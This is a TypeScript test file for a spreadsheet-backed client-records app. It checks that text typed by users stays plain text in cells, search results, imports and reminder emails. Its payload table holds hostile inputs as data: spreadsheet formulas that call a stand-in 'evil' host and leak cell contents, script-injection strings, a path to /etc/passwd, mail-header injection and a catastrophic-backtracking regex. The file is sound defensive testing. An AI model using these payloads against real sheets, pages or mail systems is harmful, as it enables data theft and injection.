import fc from 'fast-check';
import { clients } from '../../src/core/clients/client.table';
import { guardText, unguard } from '../../src/core/kernel/cell';
import { fieldsOf, type Table } from '../../src/core/kernel/table';
import { tables } from '../../src/core/tables';
import { visits } from '../../src/core/visits/visit.table';
import { BOSS, LIN, Store } from './store';

/** What somebody may type; third what is kept of it, where hidden marks go. */
const TYPED: readonly (readonly [what: string, typed: string, kept?: string])[] = [
  ['a formula with a link', '=HYPERLINK("http://evil","x")'],
  ['a formula that fetches', '=IMPORTXML("http://evil/"&A1,"//a")'],
  ['a sum with a plus in front', '+1+1'],
  ['a difference with a minus in front', '-2+3'],
  ['an old function call', '@SUM(1)'],
  ['an apostrophe before a formula', "'=1"],
  ['two apostrophes before a formula', "''=1"],
  ['an apostrophe before a word', "'t Hooft"],
  ['a tab before a formula', '\t=1', '=1'],
  ['a hidden character before a formula', '\u200b=1', '=1'],
  ['a NUL before a formula', '\u0000=1', '=1'],
  ['a formula in full-width signs', '＝1+1'],
  ['a number with a lost nought', '007'],
  ['a number beyond all precision', '12345678901234567890'],
  ['a day', '2026-03-05'],
  ['a truth', 'TRUE'],
  ['an error of the sheet', '#REF!'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['an end of an attribute and a script', '"><script>alert(1)</script>'],
  ['a mail header', 'x Bcc: all@example.com'],
  ['a template', '{{x}} {name} {n} %s'],
  ['a path', '../../etc/passwd'],
  ['a pattern', '.*(a+)+$ [x-'],
  ['a replacement', '$& $1 \\1'],
  ['marks of direction', '\u202e王\u200f女士\u2069', '王女士'],
  ['separators of several', '王、李;赵,钱'],
  ['an id of somebody else at the end', '王女士 C0000000'],
  ['the word of the journal', '未完成 abcdefgh'],
];
const PAYLOADS = TYPED.map(([what, typed, kept = typed]) => [what, typed, kept] as const);

/** The fields that a person fills with words of their own. */
const wordy = (table: Table) =>
  fieldsOf(table).flatMap(([name, field]) => (field.kind === 'text' && field.section !== undefined && !field.computed ? [name] : []));
const REGISTERED = wordy(clients);
const LOGGED = wordy(visits);

const allOf = (names: readonly string[], value: string) => Object.fromEntries(names.map((name) => [name, value]));

/** A cell as it stands, with the apostrophes doubled that were there before. */
const cellOf = (kept: string): string =>
  kept.replace(/^'+/, (own) => (/^[=+\-@＝]/.test(kept.slice(own.length)) ? own + own : `${own}${own}`.slice(1)));

const formulas = (store: Store): number => store.host.workbook.sheets.reduce((sum, sheet) => sum + sheet.grid.formulas, 0);

const ready = Store.ready().snapshot();

/** A store in whose every word of its own the payload stands, with one client whom the store manager looks after. */
function poisoned(typed: string, kept: string, strictText: boolean) {
  const store = Store.at(ready, { strictText });
  store.must('setUp', { lang: 'zh', storeName: typed, name: '' }, BOSS);
  rename(store, 'staff', String([...store.rows('staff').keys()][0]), kept);
  for (const id of store.rows('designers').keys()) rename(store, 'designers', id, kept);
  const client = store.must('register', { draft: { ...allOf(REGISTERED, typed), phone: '13800138000', source: 'walkIn' } }, BOSS);
  return { store, client };
}

function rename(store: Store, table: 'staff' | 'designers', id: string, name: string): void {
  const { sheet, columns } = store.place(tables[table]);
  const cell = { sheet: sheet.id, row: store.at(table, id), column: columns.get('name') ?? 0 };
  store.host.edit(BOSS, [{ kind: 'cells', ...cell, values: [[cellOf(name)]] }]);
}

/** What must be right whether or not the text format keeps a leading = as text. */
const LIVE = PAYLOADS.filter(([, , kept]) => /^['=+\-@＝]/.test(kept));

test.each([
  ...PAYLOADS.map((one) => ['the text format keeps a leading =', ...one, true] as const),
  ...LIVE.map((one) => ['it makes a formula of it', ...one, false] as const),
])('where %s, %s stays a word of its own wherever it is typed', (_format, _what, typed, kept, strictText) => {
  const { store, client } = poisoned(typed, kept, strictText);
  const row = () => store.row('clients', client.id);
  const words = allOf(REGISTERED, cellOf(kept));
  expect(row()).toMatchObject(words);
  expect(client.name).toBe(kept);

  store.must('log', { client: client.id, draft: { outcome: 'reached', ...allOf(LOGGED, typed) } }, BOSS);
  expect([...store.rows('visits').values()]).toMatchObject([allOf(LOGGED, cellOf(kept))]);

  const offer = store.must('suggest', { client: client.id, slot: 'first' }, BOSS);
  const designer = offer.best[0]?.designer ?? '';
  expect(offer.best[0]?.name).toBe(kept);
  store.must('dispatch', { client: client.id, slot: 'first', designer, seen: offer.seen, note: typed }, BOSS);
  expect([...store.rows('dispatches').values()]).toMatchObject([{ note: cellOf(kept) }]);

  // Read, changed elsewhere and written back, cell by cell and in blocks.
  store.must('update', { id: client.id, draft: { area: '120', address: '别处' } }, BOSS);
  store.must('update', { id: client.id, draft: { address: typed } }, BOSS);
  const { sheet, columns } = store.place(tables.clients);
  const at = store.at('clients', client.id);
  for (const name of ['dueOn', 'dueWhy', 'klass'])
    store.host.edit(BOSS, [{ kind: 'cells', sheet: sheet.id, row: at, column: columns.get(name) ?? 0, values: [[null]] }]);
  store.must('recompute', {}, BOSS);
  expect(row()).toMatchObject({ ...words, area: 120, dueWhy: expect.stringMatching(/./) });
  expect(store.row('settings', 'storeName').value).toBe(cellOf(kept));

  const card = store.must('card', { id: client.id }, BOSS);
  expect(card.values).toMatchObject({ ...allOf(REGISTERED, kept), designer });
  expect(card.line).toMatchObject({ name: kept, estate: kept, designer: kept, manager: kept });
  expect(card.timeline.find(({ kind }) => kind === 'visit')).toMatchObject({ text: `${kept} · ${kept}`, by: kept });
  expect(store.must('search', { query: typed }, BOSS).map(({ id }) => id)).toEqual([client.id]);
  expect(store.must('recognise', { name: typed, estate: typed }, BOSS)).toMatchObject([{ line: { name: kept } }]);
  expect(store.must('dayTable', {}, BOSS).rows).toMatchObject([{ client: kept, estate: kept, designer: kept }]);
  expect(store.ask('register', { draft: { name: typed, phone: '13800138000', source: 'web' } }, LIN)).toMatchObject({
    refusals: [{ code: 'known', message: { zh: `这位客户已经登记过:${kept}。请打开原来的客户继续跟进。` } }],
  });

  // And in the morning's mails it is shown as it was typed, and as nothing else.
  store.host.clock.advanceTo(Date.parse('2026-03-20T00:10:00Z'));
  store.must('reminders', { want: 'on' }, BOSS);
  store.host.advanceTo('2026-03-20T01:30:00Z');
  expect(store.host.state.outbox.map(({ to }) => to.join())).toEqual([BOSS, BOSS]);
  for (const { html, text, subject, fromName } of store.host.state.outbox) {
    expect(html).not.toMatch(/<(img|script|a href="(?!https?:|tel:))/);
    const shown = String(html)
      .replace(/<[^>]*>/g, '')
      .replace(/&#(\d+);/g, (_entity, code: string) => String.fromCharCode(Number(code)));
    expect(shown).toContain(kept);
    expect(text).toContain(kept);
    expect(subject).not.toMatch(/[\r\n]/);
    expect(fromName).not.toMatch(/[\r\n]/);
  }
  expect(formulas(store)).toBe(0);
});

test.each(LIVE)('%s names the store and its first manager when an empty workbook is set up', (_what, typed, kept) => {
  const store = Store.empty({ strictText: false });
  store.must('setUp', { lang: 'zh', storeName: typed, name: typed }, BOSS);
  expect([...store.rows('staff').values()]).toMatchObject([{ name: cellOf(kept), store: cellOf(kept) }]);
  expect(store.must('start', {}, BOSS)).toMatchObject({ storeName: kept, me: { name: kept } });
  expect(formulas(store)).toBe(0);
});

test('a line break that somebody types into the store’s name does not reach the head of a mail', () => {
  const store = Store.ready();
  store.must('register', { draft: { name: '王女士', phone: '13800138000', source: 'walkIn' } }, LIN);
  const { sheet, columns } = store.place(tables.settings);
  const cell = { sheet: sheet.id, row: store.at('settings', 'storeName'), column: columns.get('value') ?? 0 };
  store.host.edit(BOSS, [{ kind: 'cells', ...cell, values: [['城南店\r\nBcc: all@example.com']] }]);
  store.must('reminders', { want: 'on' }, BOSS);
  store.host.advanceTo('2026-03-12T01:30:00Z');
  expect(store.host.state.outbox.map(({ fromName }) => fromName)).toEqual(store.host.state.outbox.map(() => '城南店 Bcc: all@example.com'));
});

test('a list with formulas for words is imported as words', () => {
  const store = Store.ready();
  const { workbook } = store.host;
  const sheet = workbook.nextSheet;
  const rows = [
    ['姓名', '电话', '楼盘', '备注'],
    ...PAYLOADS.map(([, typed], index) => [`客户${'甲乙丙丁'[index % 4]}`, `1390000${1000 + index}`, typed, typed]),
  ];
  workbook.apply({ kind: 'sheetInsert', sheet, name: '旧表', index: 0, rows: rows.length, columns: 4 }, { user: '', source: 'load' });
  workbook.apply({ kind: 'cells', sheet, row: 0, column: 0, values: rows }, { user: '', source: 'load' });
  expect(store.must('importRows', { sheet: '旧表' }, BOSS)).toEqual({ added: PAYLOADS.length, skipped: 0 });
  expect(formulas(store)).toBe(0);
  const { sheet: own, columns } = store.place(tables.clients);
  PAYLOADS.forEach(([, typed, kept], index) => {
    const estate = workbook.value(own, index + 1, columns.get('estate') ?? 0);
    if (typed !== '#REF!') expect(estate).toBe(cellOf(kept));
  });
});

describe('the guard around text', () => {
  const awkward = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.array(fc.constantFrom("'", '=', '+', '-', '@', '＝', 'a', '1', ' '), { maxLength: 8 }).map((parts) => parts.join('')),
  );
  test('gives back what was written, whether or not Sheets eats the first apostrophe', () => {
    fc.assert(
      fc.property(awkward, (plain) => {
        const written = guardText(plain);
        expect(written).not.toMatch(/^[=+\-@＝＋－＠]/);
        expect(unguard(written)).toBe(plain);
        expect(unguard(written.replace(/^'/, ''))).toBe(plain);
      }),
    );
  });
});
